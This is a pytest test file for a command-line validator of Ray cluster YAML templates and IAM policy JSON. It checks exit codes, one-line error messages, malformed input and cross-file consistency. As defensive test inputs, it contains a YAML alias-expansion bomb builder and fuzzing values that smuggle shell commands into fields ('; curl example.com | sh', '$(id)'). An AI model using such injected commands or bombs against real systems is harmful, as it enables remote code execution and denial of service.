from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from nasi_ray.cluster.documents import parse_documents
from nasi_ray.cluster.parameters import TEMPLATES, template_path
from nasi_ray.cluster.validate import check_document, check_text, main
from tests.cluster.filled import VALUES, filled, filled_text, is_near, without_aliases


@pytest.mark.parametrize("name", TEMPLATES)
def test_each_shipped_file_passes_once_filled(name: str) -> None:
    assert check_text(filled_text(name), name=name) == []
    assert check_text(filled_text(name)) == []


@pytest.mark.parametrize("name", TEMPLATES)
def test_each_shipped_template_says_that_it_is_not_filled(name: str, tmp_path: Path) -> None:
    problems = check_text(template_path(name).read_text())
    if name == "cluster/iam/trust-policy.json":
        assert problems == []
    else:
        assert "is not filled in; run nasi-ray cluster render" in str(problems[0])


def test_exit_codes_and_lines(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good, bad = tmp_path / "good.yaml", tmp_path / "bad.yaml"
    good.write_text(filled_text("ray-cluster.yaml"))
    bad.write_text(filled_text("ray-cluster.yaml").replace("127.0.0.1", "0.0.0.0"))
    assert main([str(good)]) == 0
    assert capsys.readouterr().out == f"{good}: ok\n"
    assert main([str(good), str(bad)]) == 1
    output = capsys.readouterr()
    assert output.out == f"{good}: ok\n"
    assert output.err.startswith(f"{bad}: head_start_ray_commands[1]: ")
    assert output.err.count("\n") == 1


def bomb(value: str) -> bytes:
    """A short document whose every line names the one before it five times."""
    lines = (f"k{i}: &k{i} {value.format(f'k{i - 1}')}" for i in range(1, 30))
    return "\n".join(["k0: &k0 {a: 1, b: 2}", *lines]).encode()


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("x.yaml", b"a: [", "invalid YAML"),
        ("x.yaml", b"", "empty"),
        ("x.yaml", b"just words", "not a mapping"),
        ("x.yaml", b"\xff\xfe\x00", "cannot read"),
        ("x.yaml", b"provider: {type: aws}\navailable_node_types: []", "[] is not allowed; give a"),
        ("x.yaml", b"provider: {type: aws}\ndocker: 1", "docker: 1 is not allowed; give a mapping"),
        ("x.json", b"{'a': 1}", "invalid JSON"),
        ("x.json", b'{"Statement": 1}', "Statement: 1 is not allowed; give a list"),
        ("x.yaml", b"[" * 100_000, "nested deeper than"),
        ("x.json", b"[" * 100_000, "nested deeper than"),
        ("x.yaml", b"[" * 60 + b"]" * 60, "nested deeper than 50 levels"),
        ("x.yaml", b"x: 2020-13-45", "line 1 is a timestamp"),
        ("x.yaml", b"x: !!set {a}", "line 1 is a set"),
        ("x.yaml", b"x: !!bool maybe", "invalid value"),
        ("x.yaml", b"x: " + b"9" * 5000, "invalid value"),
        ("x.json", b'{"x": ' + b"9" * 5000 + b"}", "invalid JSON"),
        ("x.yaml", b"x: &a [*a]", "line 1 contains itself"),
        ("x.yaml", b"{1: 2, provider: {type: aws}}", "line 1 is a key that is not text"),
        ("x.yaml", b"{[a]: b}", "line 1 is a key that is not text"),
        ("x.yaml", b"a: 1\na: 2", "line 2 gives 'a' a second time"),
        ("x.yaml", bomb("[*{0}, *{0}, *{0}, *{0}, *{0}]"), "holds more than 50000 values"),
        ("x.yaml", bomb("{{<<: [*{0}, *{0}, *{0}, *{0}, *{0}]}}"), "holds more than 50000"),
        ("x.yaml", b"#" * 300_000, "larger than 256 KiB"),
    ],
)
def test_what_is_no_configuration_is_one_line(
    name: str,
    content: bytes,
    message: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    assert main([str(path)]) == 1
    error = capsys.readouterr().err
    assert message in error
    assert "Traceback" not in error
    assert all(line.startswith((f"{path}: ", "error: ")) for line in error.splitlines())


def test_files_of_different_clusters_are_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cluster, policy = tmp_path / "ray-cluster.yaml", tmp_path / "run-policy.json"
    cluster.write_text(filled_text("ray-cluster.yaml"))
    policy.write_text(filled_text("cluster/iam/run-policy.json", NASI_BUCKET="another"))
    assert main([str(cluster), str(policy)]) == 1
    told = capsys.readouterr()
    assert told.out == f"{cluster}: ok\n{policy}: ok\n"
    assert told.err.startswith(
        f"{policy}: Statement[0].Resource: NASI_BUCKET is 'another' here, but "
    )
    assert f"at {cluster}: metadata.runs; use the same value in both places" in told.err
    assert told.err.count("\n") == 1


def test_the_name_of_a_policy_says_whose_it_is() -> None:
    head = filled("cluster/iam/head-policy.json")
    assert check_document(head) == []
    assert check_document(head, name="head-policy.json") == []
    assert check_document(head, name="worker-policy.json") != []


def test_a_missing_file_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["/nowhere.yaml"]) == 1
    assert capsys.readouterr().err.startswith("error: cannot read /nowhere.yaml")


def test_malformed_values_are_told_from_problems(capsys: pytest.CaptureFixture[str]) -> None:
    template = str(template_path("ray-cluster.yaml"))
    assert main(["--render", "--set", "NASI_REGION=mars", template]) == 2
    assert capsys.readouterr().err.startswith("error: NASI_REGION is 'mars'; it must be")
    with pytest.raises(SystemExit, match="2"):
        main(["--set", "NASI_REGION=us-west-2", template])
    assert "--set has no effect without --render" in capsys.readouterr().err


def test_templates_can_be_checked_in_place(capsys: pytest.CaptureFixture[str]) -> None:
    template = str(template_path("ray-cluster.yaml"))
    flags = [word for name, value in VALUES.items() for word in ("--set", f"{name}={value}")]
    assert main(["--render", *flags, template]) == 0
    assert capsys.readouterr().out.endswith("ok\n")


def places(content: Any, path: str = "") -> Iterator[tuple[Any, Any, str]]:
    """Each container below a value, with each of its keys or indices, and where that is."""
    keys = content if isinstance(content, dict) else range(len(content))
    for key in list(keys):
        here = f"{path}[{key}]" if isinstance(key, int) else f"{path}.{key}".lstrip(".")
        yield content, key, here
        if isinstance(content[key], dict | list):
            yield from places(content[key], here)


def problems_of_each_change(name: str) -> Iterator[tuple[str, Any, list[str]]]:
    """Place, new value and problems, for each value of a file put in each place of it."""
    for parsed in parse_documents(filled_text(name)):
        document = without_aliases(parsed)
        for container, key, here in list(places(document)):
            kept = container[key]
            for value in changes(kept):
                container[key] = value
                told = [str(p) for p in check_document(document, name=Path(name).name)]
                yield here, value, told
            container[key] = kept
        assert check_document(document, name=Path(name).name) == []


def changes(kept: Any) -> list[Any]:
    """Other values for a value: of other types, with more in it, out of its range."""
    others: list[Any] = [None, [3], {"a": None}]
    if isinstance(kept, dict):
        others.append({**kept, "unlisted": "x"})
    elif isinstance(kept, list):
        others.append([*kept, "unlisted"])
    elif isinstance(kept, bool):
        others.append(not kept)
    elif isinstance(kept, int):
        others += [-(10**6), 10**6, str(kept), True]
    else:
        others += [f"{kept}; curl example.com | sh", f"{kept}\n", f"$(id){kept}", "*", ""]
    return [other for other in others if other != kept]


@pytest.mark.parametrize("name", TEMPLATES)
def test_whatever_is_put_anywhere_is_refused_and_its_place_is_named(name: str) -> None:
    count = 0
    for here, value, told in problems_of_each_change(name):
        assert told, f"{here} may be {value!r}"
        assert "\n" not in "".join(told)
        if here != "kind":  # of an unknown kind nothing more is said
            assert any(is_near(line, here) for line in told), (here, value, told)
        count += 1
    assert count > 20
